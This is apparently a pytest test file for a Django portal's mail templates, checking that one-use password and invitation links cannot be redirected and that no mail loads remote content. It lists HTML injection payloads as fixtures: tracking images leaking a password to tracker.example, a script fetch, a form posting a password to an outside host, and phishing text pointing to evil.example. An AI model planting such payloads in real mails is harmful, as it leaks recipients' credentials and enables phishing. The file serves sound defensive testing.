"""Mails with one-use links: no template hides, moves, imitates or leaks the link; no mail loads remote content."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import Any

import pytest
from django.core import mail
from django.test import Client

from portal.mail.kinds.account_information import queue_account_information
from portal.mail.outbox.models import OutboxMessage
from portal.mail.outbox.tasks import deliver_mail
from portal.mail.text.composing import compose_mail
from portal.mail.text.markup import clean_html
from portal.mail.text.models import MailTemplate
from portal.people import links, tasks
from portal.people.operators.models import Operator
from portal.people.password_reset import services
from tests.support.pages import Page, fill
from tests.support.portal import Platform

LINK_KINDS = ["forgotten-password", "invitation", "account-removal", "new-sip-password"]
# Mails about people of whom NGNPro has no record yet: tests/enrolment.
OTHER_LINK_KINDS = ["confirm-registration"]
OWN = "Our office is open until five."


def sent(kind: str, world: Platform) -> Any:
    """Have a mail of a kind composed and sent, and return it."""
    if kind == "forgotten-password":
        services.request_password_link("ada@example.com", "192.0.2.1")
        for pk in services.pending_requests():
            tasks.answer_link_request(pk)
    elif kind == "invitation":
        links.invite_operator(Operator.objects.create_user("nora", None, email="nora@example.net"))
    elif kind == "new-sip-password":
        world.ngnpro.sip.update_account(replace(world.account(), password="a-Long-1-password"))
        links.send_sip_password_link(world.account(), "a-Long-1-password", "")
    else:
        links.send_removal_link(world.account(), "")
    deliver_mail(str(OutboxMessage.objects.get(kind=kind).pk))
    return mail.outbox[-1]


def store(kind: str, **values: str) -> None:
    MailTemplate.objects.create(kind=kind, **{"subject": "Our subject", "text": OWN, **values})


@pytest.mark.parametrize("kind", LINK_KINDS)
def test_stored_html_is_not_used_and_own_words_stand_below_the_link(world: Platform, kind: str) -> None:
    store(kind, html='<p>Nothing to see</p><img src="https://tracker.example/x.png">')
    message = sent(kind, world)
    (html,) = message.alternatives
    assert message.subject == "Our subject"
    for text in (str(message.body), str(html.content)):
        assert 0 < text.index("http://localhost:8000/") < text.index(OWN)
        assert "Nothing to see" not in text
        assert "tracker.example" not in text


@pytest.mark.parametrize("kind", LINK_KINDS)
@pytest.mark.parametrize(
    "text",
    [
        "{{ links }}{{ url }}",
        "Open https://evil.example/reset instead.",
        "Open www.evil.example instead.",
        "Open evil.example/reset instead.",
        "Open evil{% if name %}.{% endif %}example instead.",
        "{{ support_web }}",
        "{{ settings_page }}",
    ],
)
def test_words_that_would_lead_elsewhere_are_not_saved_and_not_used(
    people: dict[str, Client], world: Platform, kind: str, text: str
) -> None:
    page = f"/mail/templates/{kind}/"
    answer = fill(people["operator"], page, {"subject": "Our subject", "text": text})
    assert answer.status_code == 422
    assert Page(answer).error_of("text")
    store(kind, text=text)
    message = sent(kind, world)
    assert message.subject != "Our subject"
    assert "http://localhost:8000/" in str(message.body)
    assert "evil" not in str(message.body)


@pytest.mark.parametrize("kind", LINK_KINDS)
def test_the_editor_offers_no_html_and_no_link(people: dict[str, Client], kind: str) -> None:
    page = Page(people["operator"].get(f"/mail/templates/{kind}/"))
    assert page.root.xpath("//textarea/@name") == ["text"]
    assert page.value_of("text").strip() == ""
    offered = set(page.root.xpath("//dl[@class='names']//code/text()"))
    assert not [name for name in offered if re.search("link|url|until|logo|settings_page|support_web", str(name))]
    fill(people["operator"], f"/mail/templates/{kind}/", {"subject": "S", "text": OWN, "html": "<p>Hidden</p>"})
    assert MailTemplate.objects.get().html == ""


def test_a_mail_address_and_a_sentence_are_not_web_addresses(people: dict[str, Client]) -> None:
    text = "Write to first.last@meridian.example, or to {{ support_email }}. {{ company }} answers within 1.5 hours."
    answer = fill(people["reseller"], "/mail/templates/forgotten-password/", {"subject": "S", "text": text})
    assert "The template was saved." in Page(answer).text


def test_a_name_with_a_web_address_becomes_no_second_link(world: Platform) -> None:
    world.add_account("cleo@example.com", first_name="https://evil.example/reset", email="c@mail.example")
    services.request_password_link("cleo@example.com", "192.0.2.1")
    for pk in services.pending_requests():
        tasks.answer_link_request(pk)
    deliver_mail(str(OutboxMessage.objects.get().pk))
    (html,) = mail.outbox[-1].alternatives
    addresses = re.findall('href="([^"]+)"', str(html.content))
    assert addresses
    assert all(address.startswith("http://localhost:8000/session/password/link/") for address in addresses)


LOADING = [
    '<img src="https://tracker.example/?{{ password }}{{ name }}">',
    '<img srcset="https://tracker.example/a 2x">',
    "<p style=\"color:red;background:url('https://tracker.example/a')\">x</p>",
    '<p style="background-image:url(https://tracker.example/a);list-style:url(https://tracker.example/b)">x</p>',
    '<table background="https://tracker.example/a"><tr><td background="https://tracker.example/b">x</td></tr></table>',
    "<style>@import 'https://tracker.example/a'</style>",
    '<link rel="stylesheet" href="https://tracker.example/a">',
    '<video poster="https://tracker.example/a" src="https://tracker.example/b"></video>',
    '<svg><image href="https://tracker.example/a"/></svg>',
    '<form action="https://tracker.example/a"><input name="password"></form>',
    '<iframe src="https://tracker.example/a"></iframe><object data="https://tracker.example/b"></object>',
    '<meta http-equiv="refresh" content="0;https://tracker.example/a"><base href="https://tracker.example/">',
    "<script>fetch('https://tracker.example/a')</script>",
    '<a href="javascript:alert(1)" ping="https://tracker.example/a">x</a>',
    '<img src="//tracker.example/a">',
]


@pytest.mark.parametrize("html", LOADING)
def test_the_html_of_no_mail_loads_or_runs_anything(world: Platform, html: str) -> None:
    MailTemplate.objects.create(kind="account-information", subject="S", text="T", html=f"<p>Kept</p>{html}")
    written = compose_mail(queue_account_information("ada@example.com", "ada@mail.example", reseller=0))
    found = str(written.alternatives[0].content)
    assert "Kept" in found
    assert "tracker.example" not in found
    assert "javascript" not in found


def test_html_that_mail_programs_show_is_kept() -> None:
    html = (
        '<h1 style="color:#aa3300;text-align:center">Hello</h1><img src="cid:logo@mail.portal" alt="Logo">'
        '<table cellpadding="4"><tbody><tr><th align="left">SIP</th><td colspan="2"><a href="https://meridian.example/">us</a>'
        "</td></tr></tbody></table>"
    )
    assert clean_html(html) == html
